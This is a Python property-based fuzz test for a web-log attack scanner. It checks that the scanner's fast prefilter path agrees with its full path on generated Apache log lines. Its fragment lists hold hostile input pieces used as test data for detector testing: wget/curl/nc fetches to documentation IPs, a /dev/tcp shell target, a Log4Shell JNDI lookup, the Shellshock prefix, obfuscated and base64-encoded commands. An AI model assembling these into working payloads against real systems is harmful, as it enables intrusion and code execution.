"""Fuzzing whole lines: the scanner takes any bytes, and the fast path loses nothing.

`Scanner.scan_chunk` is fed chunks of generated lines (real lines with edits, log lines whose
fields are built from attack fragments and encodings, raw bytes) under several formats. It must
never raise, must account for every line, and the fast path (chunk grammar + prefilter) must
give exactly the counts, rejects and findings of the full path. A prefilter that misses a line
the full path finds something in shows up here as a difference.

The run is bounded for CI (1200 chunks, 10-20 s); ``DROPSCAN_FUZZ_EXAMPLES=20000`` fuzzes longer.
"""

from __future__ import annotations

import os

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from conftest import REAL_APACHE_LINES
from dropscan.formats.logformat import apache_escape, compile_format

EXAMPLES = int(os.environ.get("DROPSCAN_FUZZ_EXAMPLES", "1200"))
FORMATS = [compile_format("combined"), compile_format("common"), compile_format("vhost_combined"), None]

# Pieces of attacker-controlled text: commands, separators, destinations, and every family of
# encoding the decoding views undo (so the prefilter's markers are exercised too).
FRAGMENTS = [
    *("wget ", "curl ", "tftp ", "nc ", "bash -c ", "sh ", "powershell -enc ", "base64 -d", "|sh", "|bash"),
    *(";", "&&", "|", "`", "$(", ")", "\n", "{", "}", ",", " ", "\t", "+", "'", '"', "\\", "^", "$", "/"),
    *("http://203.0.113.9/x", "198.51.100.7 4444", "/dev/tcp/203.0.113.9/80", "ftp://h/", "0xcb007109"),
    *("%20", "%3B", "%77%67%65%74", "%2577", "%u0077", "%00", "%%", "%25", "&#119;", "&amp;", "&Tab;"),
    *("${IFS}", "$IFS$9", "${jndi:ldap://203.0.113.9:1389/a}", "${lower:j}", "${::-n}", "${env:X:-d}", "${"),
    *("\\x77", "\\167", "$'\\x77get'", "w'g'et", 'c"u"rl', "w\\get", "{wget,http://h/x}", "p^o^w^e^r^s^h^e^l^l"),
    *("d2dldCBodHRwOi8vMTkyLjAuMi4xL3g=", "aQB3AHIAIABoAHQAdABwADoALwAvAGgALwB4AA==", "<?php system(", "() { :; };"),
    *("cmd.exe /c ", "certutil -urlcache -f ", "python -c ", "perl -e ", "/bin/busybox ", "chmod +x ", "./x"),
    *("é", "\u202e", "\x00", "\x1b[2J", "\r"),
]
FIELD = st.lists(st.sampled_from(FRAGMENTS), max_size=14).map("".join)
EDITS = [b'"', b"\\", b" ", b"\r", b"\x00", b"[", b"]", b"-", b"\xff", b";wget http://h/x", b"%25", b"${"]


@st.composite
def lines(draw) -> bytes:
    kind = draw(st.sampled_from(["built", "raw-field", "edited", "bytes"]))
    if kind in ("built", "raw-field"):
        target, ua, referer = draw(FIELD), draw(FIELD), draw(FIELD)
        esc = apache_escape if kind == "built" else (lambda s: s)  # servers that do not escape
        vhost = draw(st.sampled_from(["", "www.example.com:80 "]))
        method = draw(st.sampled_from(["GET ", "POST ", ""]))
        proto = draw(st.sampled_from([" HTTP/1.1", ""]))
        text = (
            f'{vhost}203.0.113.5 - - [27/Nov/2026:10:00:00 +0000] "{method}/{esc(target)}{proto}" 200 1 '
            f'"{esc(referer)}" "{esc(ua)}"'
        )
        return text.encode("utf-8", "surrogateescape").replace(b"\n", b"\\n")
    if kind == "edited":
        line = bytearray(draw(st.sampled_from(REAL_APACHE_LINES)))
        for _ in range(draw(st.integers(1, 3))):
            i = draw(st.integers(0, len(line)))
            line[i:i] = draw(st.sampled_from(EDITS))
        return bytes(line).replace(b"\n", b"")
    return draw(st.binary(max_size=120)).replace(b"\n", b"")


CHUNKS = st.lists(st.tuples(lines(), st.sampled_from([b"\n", b"\r\n"])), min_size=1, max_size=8).map(
    lambda ls: b"".join(ln + eol for ln, eol in ls)
)


@pytest.mark.slow
@settings(
    max_examples=EXAMPLES,
    derandomize=True,  # the same chunks on every run: a failure is reproducible, never a flake
    deadline=None,
    suppress_health_check=[HealthCheck.too_slow, HealthCheck.data_too_large],
)
@given(CHUNKS, st.sampled_from(FORMATS), st.booleans())
def test_fast_and_full_paths_agree_on_any_lines(fast_scanner, full_scanner, chunk, fmt, final_newline):
    if not final_newline:
        chunk = chunk.rstrip(b"\n")
    a = fast_scanner.scan_chunk(chunk, fmt, log_file="f", offset=10, line_no=3, keep_rejects=True)
    b = full_scanner.scan_chunk(chunk, fmt, log_file="f", offset=10, line_no=3, keep_rejects=True)
    n = chunk.count(b"\n") + (bool(chunk) and not chunk.endswith(b"\n"))
    assert (a.lines, a.records + a.rejected) == (n, n)
    assert (a.lines, a.records, a.rejected, a.rejects) == (b.lines, b.records, b.rejected, b.rejects)
    assert a.unscanned == b.unscanned
    assert [f.to_record() for f in a.findings] == [f.to_record() for f in b.findings]
    for f in b.findings:  # a finding points at its line
        start = f.offset - 10
        assert f.line_no - 3 == chunk.count(b"\n", 0, start) and (start == 0 or chunk[start - 1] == 0x0A)
